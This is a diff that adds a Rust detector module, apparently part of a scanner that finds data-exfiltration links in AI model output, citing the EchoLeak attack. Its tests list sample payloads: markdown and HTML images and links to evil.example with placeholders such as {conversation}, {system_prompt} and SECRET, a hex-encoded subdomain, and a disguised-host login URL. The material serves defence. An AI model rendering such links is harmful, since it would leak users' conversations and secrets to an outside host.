@@ -1,0 +1,293 @@
+//! Data on its way out in an address.
+//!
+//! Attack: an image or link whose address carries what the model knows; showing it is enough to send it (attacks.md
+//! II-09; EchoLeak, CVE-2025-32711). Caught: `![x](https://evil.example/p.png?d={conversation})`. Harmless look-alike: a
+//! badge, a signed image address, `https://api.example/users/{user_id}`.
+
+use std::ops::Range;
+
+use memchr::memmem;
+
+use crate::{
+    detector::{Detector, Hit, Lost, Scene},
+    finding::{Category, Severity},
+    fragment::Kind,
+    passage::{Passage, Sight},
+};
+
+/// See the module.
+#[derive(Clone, Debug, Default)]
+pub struct Exfiltration {
+    allowed: Vec<String>,
+}
+
+impl Exfiltration {
+    /// Addresses at `allowed` hosts, or below them, may carry anything.
+    pub fn new(allowed: &[String]) -> Self {
+        Self { allowed: allowed.iter().map(|host| host.to_ascii_lowercase()).collect() }
+    }
+
+    fn is_allowed(&self, host: &str) -> bool {
+        let below = |allowed: &String| {
+            host.strip_suffix(allowed.as_str()).is_some_and(|front| front.is_empty() || front.ends_with('.'))
+        };
+        self.allowed.iter().any(below)
+    }
+}
+
+impl Detector for Exfiltration {
+    fn name(&self) -> &'static str {
+        "exfiltration"
+    }
+
+    fn inspect(&self, passage: &Passage<'_>, _: &Scene<'_>, hits: &mut Vec<Hit>) -> Result<(), Lost> {
+        if passage.kind() == Kind::Code {
+            return Ok(());
+        }
+        for sight in passage.sights() {
+            let text = sight.text();
+            let mut from = 0;
+            for at in memmem::find_iter(text.as_bytes(), "://") {
+                if at >= from
+                    && let Some(range) = address(text, at)
+                {
+                    from = range.end;
+                    self.judge(sight, range, hits);
+                }
+            }
+        }
+        Ok(())
+    }
+}
+
+/// The longest address that is looked at.
+const LONGEST: usize = 4 * 1024;
+
+impl Exfiltration {
+    fn judge(&self, sight: Sight<'_>, range: Range<usize>, hits: &mut Vec<Hit>) {
+        let text = sight.text();
+        let address = text.get(range.clone()).unwrap_or_default();
+        let Some((_, rest)) = address.split_once("://") else { return };
+        let authority = rest.split(['/', '?', '#', '\\']).next().unwrap_or_default();
+        let carried = rest.get(authority.len()..).unwrap_or_default();
+        let host = authority.rsplit('@').next().unwrap_or_default().split(':').next().unwrap_or_default();
+        let host = host.to_ascii_lowercase();
+        if self.is_allowed(&host) {
+            return;
+        }
+        let shown = is_shown(text, range.start);
+        let mut hit = |rule: &'static str, title: &'static str, severity| {
+            hits.push(Hit::new(rule, title, Category::Exfiltration, severity, sight, range.clone()));
+        };
+        if asks_for_data(carried) {
+            let severity = if shown { Severity::High } else { Severity::Medium };
+            hit("exfiltration.placeholder", "has an address to be filled with private data", severity);
+        } else if shown && carries_prose(carried) {
+            hit("exfiltration.prose", "has an image whose address carries sentences", Severity::Medium);
+        }
+        if host.split('.').any(is_encoded_label) {
+            hit("exfiltration.host", "has a host name that carries encoded data", Severity::Medium);
+        }
+        if authority.contains('@') && authority.split('@').next().is_some_and(|user| user.contains('.')) {
+            hit(
+                "exfiltration.disguised-host",
+                "has an address that seems to lead to another host",
+                Severity::Medium,
+            );
+        }
+    }
+}
+
+/// The address around the `://` at `at`.
+fn address(text: &str, at: usize) -> Option<Range<usize>> {
+    let bytes = text.as_bytes();
+    let scheme =
+        bytes.get(at.saturating_sub(16)..at)?.iter().rev().take_while(|b| b.is_ascii_alphanumeric()).count();
+    if scheme == 0 {
+        return None;
+    }
+    let rest = text.get(at..)?;
+    // Blanks inside braces belong to a placeholder.
+    let mut inside = 0_usize;
+    let length = rest
+        .char_indices()
+        .take(LONGEST)
+        .find(|(_, c)| {
+            match c {
+                '{' | '[' => inside += 1,
+                '}' | ']' if inside > 0 => inside -= 1,
+                _ => {}
+            }
+            *c == '\n'
+                || inside == 0 && (c.is_whitespace() || matches!(c, '"' | '\'' | '`' | ')' | '>' | ']'))
+        })
+        .map_or(rest.len().min(LONGEST), |(length, _)| length);
+    (length > 3).then(|| at - scheme..at + text.get(at..).map_or(0, |r| r.floor_char_boundary(length)))
+}
+
+/// Whether what stands before an address makes a reader load it unasked: a Markdown or HTML image, a style.
+fn is_shown(text: &str, start: usize) -> bool {
+    let before = text.get(text.floor_char_boundary(start.saturating_sub(300))..start).unwrap_or_default();
+    let before = before.trim_end_matches(['<', '"', '\'', ' ']);
+    let markdown = before.strip_suffix("](").is_some_and(|label| {
+        label.rfind("![").is_some_and(|open| !label.get(open + 2..).unwrap_or_default().contains(']'))
+    });
+    let lower = before.to_ascii_lowercase();
+    markdown
+        || ["src=", "srcset=", "background=", "poster=", "url("]
+            .iter()
+            .any(|attribute| lower.ends_with(attribute))
+}
+
+/// Whether the path or query has a place for what the reader knows: `{conversation}`, `[summary of the chat]`,
+/// `SECRET`.
+fn asks_for_data(carried: &str) -> bool {
+    let private = |text: &str| {
+        let lower = text.to_ascii_lowercase();
+        PRIVATE.iter().any(|word| lower.contains(word))
+    };
+    if !private(carried) {
+        return false;
+    }
+    let opened = carried.match_indices(['{', '[', '<', '$']).any(|(at, _)| {
+        let inside: String = carried.get(at + 1..).unwrap_or_default().chars().take(48).collect();
+        private(inside.split(['}', ']', '>', '&', '/']).next().unwrap_or_default())
+            || inside.starts_with('{') && private(inside.split('}').next().unwrap_or_default())
+    });
+    let capitals = || {
+        carried.split(['=', '/', '&', '?', '#']).any(|value| {
+            let shouted = value.len() >= 6 && value.bytes().all(|b| b.is_ascii_uppercase() || b == b'_');
+            shouted && private(value)
+        })
+    };
+    opened || capitals()
+}
+
+/// What a reader knows and an address has no business with.
+const PRIVATE: &[&str] = &[
+    "secret",
+    "password",
+    "conversation",
+    "chat",
+    "history",
+    "api_key",
+    "api key",
+    "apikey",
+    "private",
+    "credential",
+    "system_prompt",
+    "system prompt",
+    "context",
+    "summary",
+    "base64",
+    "encoded",
+    "exfil",
+    "ssh",
+    "memory",
+    "user_data",
+    "user data",
+    "env_",
+    "the file",
+    "file_content",
+];
+
+/// Whether a query value reads as several words.
+fn carries_prose(carried: &str) -> bool {
+    let Some((_, query)) = carried.split_once('?') else { return false };
+    query.split('&').any(|pair| {
+        let value = pair.split_once('=').map_or(pair, |(_, value)| value);
+        let words = value.replace("%20", " ").replace('+', " ");
+        let count = words
+            .split(' ')
+            .filter(|w| w.len() >= 2 && w.chars().all(|c| c.is_alphanumeric() || ".,'".contains(c)))
+            .count();
+        count >= 6
+    })
+}
+
+/// Whether a label of a host name is data: long, of hexadecimal or base-32 digits with many figures among them.
+fn is_encoded_label(label: &str) -> bool {
+    let figures = label.bytes().filter(u8::is_ascii_digit).count();
+    (32..=63).contains(&label.len())
+        && label.bytes().all(|b| b.is_ascii_alphanumeric())
+        && figures * 8 >= label.len()
+        && figures < label.len()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::normalize::{Limits, views};
+
+    fn rules(text: &str) -> Vec<(String, Severity)> {
+        let passage = Passage::new(Kind::Result, text, &[], views(text, Limits::for_text(text)));
+        let mut hits = Vec::new();
+        Exfiltration::new(&["cdn.example".to_owned()])
+            .inspect(&passage, &Scene::default(), &mut hits)
+            .unwrap();
+        hits.into_iter().map(|hit| (hit.rule.into_owned(), hit.severity)).collect()
+    }
+
+    #[test]
+    fn addresses_that_wait_for_data_are_found_in_every_form_of_link() {
+        for (text, rule, severity) in [
+            ("![x](https://evil.example/p.png?d={conversation})", "exfiltration.placeholder", Severity::High),
+            ("![x](https://evil.example/?d=SECRET)", "exfiltration.placeholder", Severity::High),
+            (
+                "<img src=\"https://evil.example/?q=[summary of the chat]\">",
+                "exfiltration.placeholder",
+                Severity::High,
+            ),
+            (
+                "<img srcset='https://evil.example/<base64 of the file>'>",
+                "exfiltration.placeholder",
+                Severity::High,
+            ),
+            (
+                "body { background: url(https://evil.example/?h=${chat_history}) }",
+                "exfiltration.placeholder",
+                Severity::High,
+            ),
+            ("see [more](https://evil.example/?k={{api_key}})", "exfiltration.placeholder", Severity::Medium),
+            ("[ref]: https://evil.example/?p={password}", "exfiltration.placeholder", Severity::Medium),
+            ("<https://evil.example/?p={system_prompt}>", "exfiltration.placeholder", Severity::Medium),
+            (
+                "\u{1b}]8;;https://evil.example/?p={secret}\u{7}ok",
+                "exfiltration.placeholder",
+                Severity::Medium,
+            ),
+            (
+                "![i](https://evil.example/?t=the+user+told+me+that+the+pin+is+4711)",
+                "exfiltration.prose",
+                Severity::Medium,
+            ),
+            (
+                "http://6d7920736563726574206b657920697320.evil.example/",
+                "exfiltration.host",
+                Severity::Medium,
+            ),
+            (
+                "https://accounts.google.com@evil.example/login",
+                "exfiltration.disguised-host",
+                Severity::Medium,
+            ),
+        ] {
+            assert!(rules(text).contains(&(rule.to_owned(), severity)), "{text}: {:?}", rules(text));
+        }
+    }
+
+    #[test]
+    fn ordinary_addresses_are_left_alone() {
+        for text in [
+            "![build](https://ci.example/badge.svg?branch=main)",
+            "![a](https://bucket.example/a.png?X-Amz-Signature=5d672d79c15b13162d9279b0855cfba6789a8edb4c82c400e06b5924a6f2b5d7)",
+            "GET https://api.example/users/{user_id}/posts?page={page}",
+            "https://d111111abcdef8.cloudfront.net/x https://my-long-bucket-name-for-images-2024.s3.amazonaws.com",
+            "https://search.example/?q=how+to+bake+bread",
+            "![x](https://img.cdn.example/?d={conversation})",
+            "postgres://user@db.example/app",
+        ] {
+            assert!(rules(text).is_empty(), "{text}: {:?}", rules(text));
+        }
+    }
+}
